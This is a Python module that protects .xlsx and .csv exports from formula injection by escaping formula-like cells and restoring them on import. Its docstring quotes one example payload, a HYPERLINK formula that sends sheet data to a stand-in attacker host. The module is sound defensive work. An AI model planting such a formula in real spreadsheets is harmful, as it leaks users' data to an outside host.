"""Cells that spreadsheets show as text: formula-safe .xlsx and .csv exports, and back.

A cell that starts with =, +, -, @, a tab or a carriage return is a formula to Excel and
LibreOffice (`=HYPERLINK("http://evil.example/?"&A1;"klick")` in an activity title would send
the sheet's data away on a click). Exports write such text as a text cell (.xlsx) or with a
leading apostrophe (.csv); imports take the apostrophe off again, so a round trip keeps the text.
"""

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_value(value):
    """A CSV field that no spreadsheet evaluates."""
    return QUOTE + value if is_formula_like(value) else value


def xlsx_append(sheet, values) -> None:
    """Append a row of values; text is always a text cell, never a formula.

    Characters an .xlsx file cannot hold (other control characters) are left out, so text
    saved before they were refused cannot break the export.
    """
    row = sheet.max_row + 1 if sheet.max_row > 1 or sheet["A1"].value is not None else 1
    for column, value in enumerate(values, start=1):
        text = isinstance(value, str)
        if text:
            value = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell = sheet.cell(row=row, column=column, value=value)
        if text and cell.data_type != "s":
            cell.data_type = "s"  # openpyxl took it for a formula
        if is_formula_like(value):
            cell.quotePrefix = True  # and Excel keeps it text when the cell is edited


def imported_text(value):
    """A cell's text as it was before export: the apostrophe the export added comes off."""
    if isinstance(value, str) and value.startswith(QUOTE) and is_formula_like(value[1:]):
        return value[1:]
    return value
